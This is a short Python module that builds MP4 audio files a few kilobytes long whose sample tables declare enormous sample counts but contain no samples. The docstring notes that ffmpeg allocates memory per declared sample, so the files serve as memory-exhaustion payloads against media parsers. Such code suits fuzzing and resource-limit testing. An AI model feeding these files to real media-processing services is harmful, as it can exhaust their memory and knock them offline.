"""MP4 files of a few kilobytes whose index expands to gigabytes."""

import struct

UNITY = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)
LENGTH_S = 1
RATE = 44_100


def crafted_mp4(tracks: int, samples: int) -> bytes:
    """A file that declares `samples` AAC samples in each of its tracks, and contains none.

    ffmpeg allocates 24 bytes for each sample, and 12 for its time offset.
    """
    header = _box("ftyp", b"M4A \0\0\0\0M4A isom") + _box("mdat", bytes(64))
    movie = _full_box(
        "mvhd",
        struct.pack(">4I", 0, 0, RATE, LENGTH_S * RATE),
        struct.pack(">IH", 0x10000, 0x100) + bytes(10) + UNITY + bytes(24),
        struct.pack(">I", tracks + 1),
    )
    numbers = range(1, tracks + 1)
    return header + _box("moov", movie, *(_track(number, samples) for number in numbers))


def _track(number: int, samples: int) -> bytes:
    header = _full_box(
        "tkhd",
        struct.pack(">5I", 0, 0, number, 0, LENGTH_S * RATE),
        bytes(8) + struct.pack(">4H", 0, 0, 0x100, 0) + UNITY + bytes(8),
        flags=7,
    )
    media = _full_box("mdhd", struct.pack(">4I2H", 0, 0, RATE, LENGTH_S * RATE, 0x55C4, 0))
    handler = _full_box("hdlr", b"\0\0\0\0soun" + bytes(13))
    data_information = _box(
        "dinf", _full_box("dref", struct.pack(">I", 1), _full_box("url ", flags=1))
    )
    information = _box(
        "minf", _full_box("smhd", bytes(4)), data_information, _sample_table(samples)
    )
    return _box("trak", header, _box("mdia", media, handler, information))


def _sample_table(samples: int) -> bytes:
    """Boxes in which a single entry describes all samples."""
    one = struct.pack(">I", 1)
    sound = bytes(8) + struct.pack(">4HI", 2, 16, 0, 0, RATE << 16)
    description = _box("mp4a", bytes(6) + struct.pack(">H", 1) + sound)
    return _box(
        "stbl",
        _full_box("stsd", one, description),
        _full_box("stts", one, struct.pack(">2I", samples, 1)),
        _full_box("ctts", one, struct.pack(">2I", samples, 1)),
        _full_box("stsc", one, struct.pack(">3I", 1, samples, 1)),
        _full_box("stsz", struct.pack(">2I", 1, samples)),
        _full_box("stco", one, struct.pack(">I", 48)),
    )


def _box(kind: str, *contents: bytes) -> bytes:
    content = b"".join(contents)
    return struct.pack(">I4s", 8 + len(content), kind.encode()) + content


def _full_box(kind: str, *contents: bytes, flags: int = 0) -> bytes:
    return _box(kind, struct.pack(">I", flags), *contents)
